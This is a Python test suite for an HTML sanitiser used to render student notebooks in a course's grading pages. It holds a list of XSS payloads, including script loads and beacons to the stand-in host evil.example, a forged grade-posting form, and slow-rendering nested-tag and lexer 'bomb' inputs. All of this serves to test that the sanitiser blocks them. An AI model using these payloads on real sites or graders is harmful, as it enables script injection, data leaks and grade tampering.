"""The one allowlist sanitiser (rlhf_course/grading/pages/safe_html.py) against XSS payloads, the Formgrader's
exporter as nbgrader_config.py configures it, and the bounds on what is rendered.  Fast, no root."""
from __future__ import annotations

import base64
import re
import time

import nbformat
import pytest
from bs4 import BeautifulSoup

from rlhf_course.grading.pages import safe_html
from rlhf_course.grading.pages.safe_html import bound_notebook, clean
from tests.support.formgrader_render import FORMGRADE_RESOURCES, formgrader_exporter

PNG = base64.b64encode(bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                                     "1f15c4890000000d49444154789c6360000002000100e221bc330000000049454e44ae426082")).decode()

PAYLOADS = [
    '<img src=x onerror="window.__pwned=1">',
    '<a href="javascript:window.__pwned=1">x</a>',
    '<a href="JaVaScRiPt&colon;window.__pwned=1">x</a>',
    '<a href=" javascript:window.__pwned=1">x</a>',
    '<svg onload="window.__pwned=1"><circle r=1 /></svg>',
    '<svg><script>window.__pwned=1</script></svg>',
    '<math><mtext><img src=x onerror="window.__pwned=1"></mtext></math>',
    '<script>window.__pwned=1</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    '<iframe src="javascript:parent.__pwned=1"></iframe>',
    '<object data="data:text/html,<script>parent.__pwned=1</script>"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+">',
    '<div style="background:url(javascript:window.__pwned=1); width: expression(window.__pwned=1)">x</div>',
    '<style>body{background:url("//evil.example/leak")}</style>',
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<a href="data:text/html,<script>window.__pwned=1</script>">x</a>',
    '<img src="data:text/html,<script>window.__pwned=1</script>">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="https://evil.example/beacon.png">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">',
    '<form action="/formgrader/api/grade/1" method="post"><input name="manual_score" value="99"><button>go</button></form>',
    '<details open ontoggle="window.__pwned=1">x</details>',
    '<p onmouseover="window.__pwned=1">hover</p>',
    '<a href="#" onclick="window.__pwned=1">x</a>',
    '<video><source onerror="window.__pwned=1"></video>',
    '<table background="javascript:window.__pwned=1"><tr><td>x</td></tr></table>',
    '<!--><img src=x onerror="window.__pwned=1">-->',
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
    '<h2 id="base_url" onclick="window.__pwned=1">x</h2>',
]
FORBIDDEN_TAGS = {"script", "svg", "math", "iframe", "object", "embed", "style", "link", "base", "meta", "form",
                  "input", "button", "video", "audio", "source", "noscript", "frame", "frameset", "template"}


def _dangers(markup: str, svg_images_ok: bool = False) -> list:
    """Every element or attribute in ``markup`` that could run code, load something or leave the page.
    ``svg_images_ok``: an SVG as an <img> data URL (inert: a browser runs no script in an image)."""
    from bleach._vendor import html5lib  # a browser's parsing rules (bs4 here has only html.parser)
    elements = [e for e in html5lib.parse(markup, namespaceHTMLElements=False).iter() if isinstance(e.tag, str)]
    found = []
    for element in elements:
        tag = element.tag.rpartition("}")[2]
        if tag in FORBIDDEN_TAGS:
            found.append(tag)
        for name, value in element.attrib.items():
            name = name.rpartition("}")[2]
            if name.startswith("on") or name in ("style", "srcdoc", "background", "action", "formaction"):
                found.append((tag, name))
            elif name == "src" and not (tag == "img" and (safe_html.IMAGE_DATA.match(value) or svg_images_ok
                                                          and value.startswith("data:image/svg+xml;base64,"))):
                found.append((tag, name, value))
            elif name == "href":  # a scheme other than these, e.g. "javascript:" or "data:"
                scheme = re.match(r"\s*([a-zA-Z][a-zA-Z0-9+.-]*):", value)
                if tag != "a" or scheme and scheme.group(1).lower() not in ("http", "https", "mailto"):
                    found.append((tag, name, value))
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives_the_sanitiser(payload):
    assert _dangers(payload), "the payload itself must be dangerous, or the test proves nothing"
    assert _dangers(clean(payload)) == []


def test_what_rendered_markdown_needs_survives():
    markup = (f'<h2 id="part-1">Part 1</h2><p>a <em>b</em> <strong>c</strong> <code>d</code></p>'
              f'<table><thead><tr><th>x</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>'
              f'<ul><li>e</li></ul><pre><code class="language-python">f</code></pre>'
              f'<a href="https://example.org/">g</a><img src="data:image/png;base64,{PNG}" alt="plot">')
    assert clean(markup) == markup.replace(' id="part-1"', "").replace(' class="language-python"', "")


NAMING = ['<h6 id="ppo_values" class="hidden"></h6>', '<div class="full-credit">text</div>',
          '<span name="x" id="lab_question_1-comment">y</span>', '<a href="#x" id="a" class="tabbable score">z</a>',
          '<label for="ppo_values">l</label>', '<button form="f" formaction="/x">b</button>',
          '<td id="t" class="score" colspan="2">c</td>']


@pytest.mark.parametrize("markup", NAMING)
def test_no_student_markup_names_or_styles_an_element_of_the_page(markup):
    """The Formgrader's script finds its controls by id and class: a student's element must carry neither."""
    soup = BeautifulSoup(clean(markup), "html.parser")
    assert [(t.name, a) for t in soup.find_all(True) for a in t.attrs
            if a in ("id", "name", "class", "for", "form", "formaction")] == []


def test_the_formgrader_names_each_grade_control_once_and_only_in_its_own_heading(repo):
    """Mallory's answer moved first with one empty heading per grade id (and their classes), rendered
    from her canonical copy by the Formgrader's exporter: each grade id names exactly one element of the
    page, the score box in that grade cell's own heading; no student element has a class."""
    import copy

    from rlhf_course.course import notebooks
    from rlhf_course.grading.canonical import canonical_copy
    release = notebooks.read(repo / "release" / "rlhf" / "rlhf_building_blocks.ipynb")
    nb = copy.deepcopy(release)
    ids = [notebooks.grade_id(c) for c in nb.cells]
    answer = nb.cells.pop(ids.index("lab_question_1"))
    answer.source = "A plausible answer.\n\n" + "".join(
        f'<h6 id="{g}" class="hidden full-credit"></h6><h2>{g}</h2>\n\n' for g in ids if g != "lab_question_1")
    nb.cells.insert(0, answer)
    shown, flags = canonical_copy(nb, release)
    assert "lab_question_1: was moved (put back in its place from the release)" in flags
    page, _ = formgrader_exporter().from_notebook_node(shown, resources=dict(FORMGRADE_RESOURCES))
    soup = BeautifulSoup(page, "html.parser")
    for cell in soup.select(".text_cell_render"):
        assert [t for t in cell.find_all(True) if t.get("id") or t.get("class")] == [], cell
    graded = [g for g in ids if notebooks.cells_by_grade_id(release)[g].metadata["nbgrader"].get("grade")]
    for gid in graded:
        named = soup.find_all(id=gid)
        assert len(named) == 1 and named[0].name == "input" and "score" in named[0]["class"], gid
        assert named[0].find_parent(class_="panel-heading") is not None
    assert "A plausible answer." in soup.find(id="lab_question_1").find_parent(class_="nbgrader_cell").get_text()
    assert "¶" not in soup.get_text()  # no heading anchors


def test_the_formgrader_renders_a_written_answer_and_outputs_only_through_the_sanitiser():
    """nbgrader's formgrade template renders a markdown cell with markdown2html alone: raw HTML ran."""
    nb = nbformat.v4.new_notebook()
    answer = nbformat.v4.new_markdown_cell("My answer. " + " ".join(PAYLOADS) + "\n\n[x](javascript:window.__pwned=1)")
    answer.metadata["nbgrader"] = {"solution": True, "grade": True, "grade_id": "written", "points": 2,
                                   "locked": False, "schema_version": 3, "task": False}
    code = nbformat.v4.new_code_cell("display(HTML(...))")
    code.outputs = [nbformat.v4.new_output("display_data", data={"text/html": p}) for p in PAYLOADS]
    code.outputs += [nbformat.v4.new_output("display_data", data={"application/javascript": "window.__pwned=1",
                                                                    "text/plain": "js"}),
                     nbformat.v4.new_output("display_data", data={"text/markdown": PAYLOADS[0]}),
                     nbformat.v4.new_output("display_data", data={"image/svg+xml": PAYLOADS[4]})]
    nb.cells += [answer, code]
    page, _ = formgrader_exporter().from_notebook_node(nb, resources=dict(FORMGRADE_RESOURCES))
    soup = BeautifulSoup(page, "html.parser")
    cells = "".join(str(c) for c in soup.select(".text_cell_render, .output_area"))
    assert "My answer." in cells
    assert _dangers(cells, svg_images_ok=True) == []
    assert "__pwned" not in "".join(s.get_text() for s in soup.find_all("script"))
    assert "MathJax.js?config=" in page and ",Safe" in page  # \href{javascript:...} in LaTeX is refused


def test_nested_tags_render_in_bounded_time_with_a_note():
    """'<b>' * 87000 took 44 s in bleach; '<div>' * 8000 3 s."""
    for payload in ("<b>" * 87000, "<div>" * 8000, "<div>" * 990 + "x" * 70000):
        start = time.monotonic()
        out = clean(payload)
        assert time.monotonic() - start < 2.0
        assert "HTML not rendered" in out and _dangers(out) == []


def test_the_autograded_copy_keeps_bounded_safe_outputs_and_the_students_text():
    nb = nbformat.v4.new_notebook(metadata={"widgets": {"application/vnd.jupyter.widget-state+json": {}}})
    answer = nbformat.v4.new_markdown_cell("<img src=x onerror=alert(1)> my own words")
    code = nbformat.v4.new_code_cell("x")
    code.outputs = [
        nbformat.v4.new_output("display_data", data={"text/html": PAYLOADS[0], "text/plain": "p"},
                               metadata={"text/html": {"isolated": True}}),
        nbformat.v4.new_output("display_data", data={"application/javascript": "alert(1)"}),
        nbformat.v4.new_output("display_data", data={"image/svg+xml": PAYLOADS[4], "image/png": PNG}),
        nbformat.v4.new_output("display_data", data={"text/html": "<b>" * 87000}),
        nbformat.v4.new_output("stream", name="stdout", text="y" * 300_000),
    ]
    nb.cells += [answer, code]
    bound_notebook(nb)
    nbformat.validate(nb)
    assert answer.source == "<img src=x onerror=alert(1)> my own words"  # graded by a person as written
    html_out, js, images, nested, stream = code.outputs
    assert _dangers(html_out.data["text/html"]) == [] and html_out.metadata == {}
    assert js.data == {"text/plain": "[an output of type application/javascript is not shown]"}
    assert set(images.data) == {"image/png", "text/plain"}
    assert "HTML not rendered: 87,000 tags" in nested.data["text/html"]
    assert len(stream.text) < 70_000 and "it was 293.0 KiB" in stream.text
    assert "widgets" not in nb.metadata


def test_a_render_budget_stops_between_steps():
    with safe_html.render_budget(0.2):
        clean("<p>fast</p>")
        time.sleep(0.25)
        with pytest.raises(safe_html.RenderBudgetExceeded, match="budget of 0.2 s"):
            clean("<p>late</p>")
    clean("<p>outside any budget</p>")


MAPLE_BOMB = '"' + "\\a" * 28  # Pygments' Maple lexer: 44 s on this (x3.3 per two more characters)


def _lexer_bomb_notebook(lexer: str = "maple"):
    nb = nbformat.v4.new_notebook(metadata={"language_info": {"name": "python", "pygments_lexer": "ipython3"}})
    nb.cells.append(nbformat.v4.new_code_cell(MAPLE_BOMB, metadata={"magics_language": lexer}))
    return nb


def test_no_notebook_or_cell_chooses_the_lexer_of_a_page():
    """Both exporters highlight with the course's IPython lexer whatever language_info or magics_language say."""
    from pygments.lexers import get_all_lexers

    from rlhf_course.grading.pages.feedback_html import make_exporter
    for exporter, resources in ((formgrader_exporter(), FORMGRADE_RESOURCES), (make_exporter(), {})):
        start = time.monotonic()
        page, _ = exporter.from_notebook_node(_lexer_bomb_notebook(), resources=dict(resources))
        assert time.monotonic() - start < 3.0 and "\\a\\a" in page
    highlight = safe_html.CourseHighlight()
    plain = highlight(MAPLE_BOMB[:8])
    aliases = [alias for _, names, _, _ in get_all_lexers() for alias in names[:1]]
    assert len(aliases) > 400
    assert {alias: highlight(MAPLE_BOMB[:8], alias, {"magics_language": alias}) for alias in aliases} == \
        {alias: plain for alias in aliases}


def test_no_markdown_fence_chooses_the_lexer_of_a_page():
    """nbconvert highlights a fenced code block with the Pygments lexer its info string names: a written
    answer holding "```maple" and 57 bytes took both exporters tens of seconds (0.16 s at 20 pairs, x3.8
    per two more).  Every fence renders as a plain one, in both exporters, whatever lexer it names."""
    from pygments.lexers import get_all_lexers

    from rlhf_course.grading.pages.feedback_html import make_exporter
    answer = nbformat.v4.new_markdown_cell(f"My answer:\n\n```maple\n{MAPLE_BOMB}\n```\n")
    for exporter, resources in ((formgrader_exporter(), FORMGRADE_RESOURCES), (make_exporter(), {})):
        start = time.process_time()  # this process's CPU: a busy machine slows the clock, not the work
        page, _ = exporter.from_notebook_node(nbformat.v4.new_notebook(cells=[answer]), resources=dict(resources))
        assert time.process_time() - start < 3.0 and "\\a\\a" in page
    markdown = safe_html.SafeMarkdown()
    fence = "```{}\nx = '<b>1</b>'  # \\a\\a\n```\n"
    plain = markdown({}, fence.format(""))
    assert plain == "<pre><code>x = '&lt;b&gt;1&lt;/b&gt;'  # \\a\\a\n</code></pre>\n"
    aliases = [alias for _, names, _, _ in get_all_lexers() for alias in names[:1]] + ["mermaid", "python {.x}"]
    assert len(aliases) > 400
    assert {alias: markdown({}, fence.format(alias)) for alias in aliases} == {alias: plain for alias in aliases}
